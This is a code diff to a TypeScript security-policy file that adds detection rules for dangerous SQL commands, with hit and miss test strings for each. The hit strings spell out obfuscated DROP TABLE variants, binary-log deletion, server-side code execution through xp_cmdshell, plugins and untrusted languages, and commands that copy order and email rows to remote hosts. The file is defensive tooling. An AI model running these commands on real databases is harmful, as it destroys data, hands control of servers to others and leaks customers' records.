@@ -1,5 +1,5 @@
 /** Whole statements that destroy what a database holds, hand it over, or reach out of it. */
-import { any, command, sql } from "../condition.ts";
+import { all, any, command, effect, sql } from "../condition.ts";
 import type { Policy } from "../policy.ts";
 
 const SQLI = { category: "security-sqli", phases: ["request"], action: "block", severity: "critical" } as const;
@@ -38,6 +38,11 @@ export const sqlStatements: readonly Policy[] = [
       `mysql -e "CALL sys.execute_prepared_stmt('drop table orders')"`,
       `sqlcmd -Q "DECLARE @s nvarchar(100) = N'DROP TABLE orders'; EXEC(@s)"`,
       `sqlcmd -Q "DECLARE @s nvarchar(100) = N'DROP '; SET @s = @s + N'TABLE orders' EXEC sp_executesql @s"`,
+      `sqlcmd -Q "DECLARE @s nvarchar(100) = N'DROP'; SELECT @s += N' TABLE orders'; EXEC(@s)"`,
+      `mysql -e "SELECT 'DROP TABLE orders' INTO @s; PREPARE s FROM @s; EXECUTE s"`,
+      `mysql -e "SELECT CONCAT('DROP TABLE ', name) INTO @s FROM gone; PREPARE s FROM @s; EXECUTE s"`,
+      `mysql -e "SET @s = 'DROP TABLE orders'" -e "PREPARE s FROM @s" -e "EXECUTE s"`,
+      `mysql -e 'explain select 1\\Gdrop table orders'`,
       `sqlcmd -Q "EXEC sp_executesql @stmt = N'DROP TABLE orders'"`,
       `sqlcmd -Q "EXEC('select 1') EXEC('DROP TABLE orders')"`,
       "psql -c 'DO $$ BEGIN EXECUTE concat($q$drop $q$, $q$table orders$q$); END $$'",
@@ -56,6 +61,8 @@ export const sqlStatements: readonly Policy[] = [
       `psql -c "SELECT 'drop table ' || tablename FROM pg_tables"`,
       `psql -c "EXECUTE find_orders('drop table orders')"`,
       `mysql -e "SET @s = 'DROP TABLE orders'; SELECT @s"`,
+      `mysql -e "SELECT 'DROP TABLE orders' INTO @s; SELECT @s"`,
+      `mysql -e "SELECT 1\\G" -e "EXECUTE s"`,
       `mysql -e "SELECT id FROM log WHERE text = 'DROP TABLE orders'; EXECUTE s"`,
       `mysql -e "SET @t = 'DROP TABLE orders', @s = 'SELECT 1'; PREPARE s FROM @s; EXECUTE s"`,
       `sqlcmd -Q "DECLARE @s nvarchar(100) = N'SELECT 1'; EXEC(@s)"`,
@@ -333,6 +340,16 @@ export const sqlStatements: readonly Policy[] = [
     misses: [...ORDINARY, `psql -c "SELECT 'REVOKE ALL FROM ada'"`],
   },
   {
+    ...HIGH,
+    id: "sys_sqli_change_log",
+    title: "Deleting the log of changes",
+    why:
+      `Replicas stop, and there is no way back to an earlier moment; let old logs expire by the server's own setting`,
+    when: sql("<begin> RESET MASTER", "<begin> RESET BINARY LOGS"),
+    hits: [`mysql -e 'RESET MASTER'`, `mysql -e 'reset binary logs and gtids'`],
+    misses: [...ORDINARY, `mysql -e 'SHOW MASTER STATUS'`, `mysql -e 'RESET REPLICA'`],
+  },
+  {
     ...SQLI,
     id: "sys_sqli_server_command",
     title: "Running programs on the database server",
@@ -345,6 +362,35 @@ export const sqlStatements: readonly Policy[] = [
     ),
     hits: [`sqlcmd -Q "EXEC xp_cmdshell 'whoami'"`, `sqlcmd -Q "exec master..xp_dirtree 'c:'"`],
     misses: [...ORDINARY, `sqlcmd -Q "EXEC sp_help"`],
+  },
+  {
+    ...SQLI,
+    action: "warn",
+    severity: "high",
+    id: "sys_sqli_server_code",
+    title: "Code that the database server runs with its own rights",
+    why: `It may do all that the server may, from now on; show the user the code or the library, and where it is from`,
+    when: sql(
+      "LANGUAGE PLPERLU|PLPYTHONU|PLPYTHON2U|PLPYTHON3U|PLSH|PLTCLU",
+      "<begin> ALTER SYSTEM SET ARCHIVE_COMMAND|RESTORE_COMMAND|ARCHIVE_CLEANUP_COMMAND|RECOVERY_END_COMMAND|SSL_PASSPHRASE_COMMAND|DYNAMIC_LIBRARY_PATH|LOCAL_PRELOAD_LIBRARIES|SESSION_PRELOAD_LIBRARIES",
+      "<begin> INSTALL PLUGIN|SONAME",
+      "<begin> CREATE AGGREGATE? FUNCTION ... SONAME",
+      "<begin> INSTALL|LOAD SHELLFS",
+    ),
+    hits: [
+      `mysql -e "INSTALL PLUGIN audit SONAME 'audit.so'"`,
+      `mysql -e "CREATE FUNCTION do_it RETURNS INTEGER SONAME 'udf.so'"`,
+      `duckdb -c 'INSTALL shellfs FROM community; LOAD shellfs'`,
+      "psql -c 'CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ return 1 $$'",
+      `psql -c "ALTER SYSTEM SET archive_command = 'cp %p /archive/%f'"`,
+    ],
+    misses: [
+      ...ORDINARY,
+      `psql -c "ALTER SYSTEM SET work_mem = '64MB'"`,
+      "psql -c 'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$'",
+      `duckdb -c 'INSTALL httpfs; LOAD httpfs'`,
+      `mysql -e "SHOW PLUGINS"`,
+    ],
   },
   {
     ...SQLI,
@@ -386,18 +432,27 @@ export const sqlStatements: readonly Policy[] = [
     title: "Writing rows to another server",
     why:
       `The rows leave the database for whoever runs that server; show the user the address, and export to a file here`,
-    when: sql(
-      "<begin> INSERT INTO TABLE? FUNCTION URL|S3|GCS|HDFS|REMOTE|REMOTESECURE|AZUREBLOBSTORAGE|MYSQL|POSTGRESQL (",
-      "DBLINK_EXEC|DBLINK_SEND_QUERY (",
+    when: any(
+      sql(
+        "<begin> INSERT INTO TABLE? FUNCTION URL|S3|GCS|HDFS|REMOTE|REMOTESECURE|AZUREBLOBSTORAGE|MYSQL|POSTGRESQL (",
+        "DBLINK_EXEC|DBLINK_SEND_QUERY (",
+      ),
+      all(
+        command("duckdb"),
+        effect("query", { text: /\bcopy\s[^;]{1,400}?\sto\s{1,20}'(?:s3|r2|gcs|gs|azure|az|abfss|https?):\/\//i }),
+      ),
     ),
     hits: [
       `clickhouse-client -q "INSERT INTO FUNCTION url('https://example.com', 'CSV') SELECT * FROM orders"`,
+      `duckdb shop.db -c "COPY orders TO 's3://example/orders.parquet'"`,
       `psql -c "SELECT dblink_exec('host=db.example.com', (SELECT string_agg(email, ',') FROM orders))"`,
     ],
     misses: [
       ...ORDINARY,
       `clickhouse-client -q "SELECT * FROM url('https://example.com/a.csv', 'CSV')"`,
       `clickhouse-client -q "INSERT INTO orders SELECT * FROM old_orders"`,
+      `duckdb shop.db -c "COPY orders TO 'orders.parquet'"`,
+      `duckdb shop.db -c "COPY orders FROM 's3://example/orders.parquet'"`,
     ],
   },
 ];
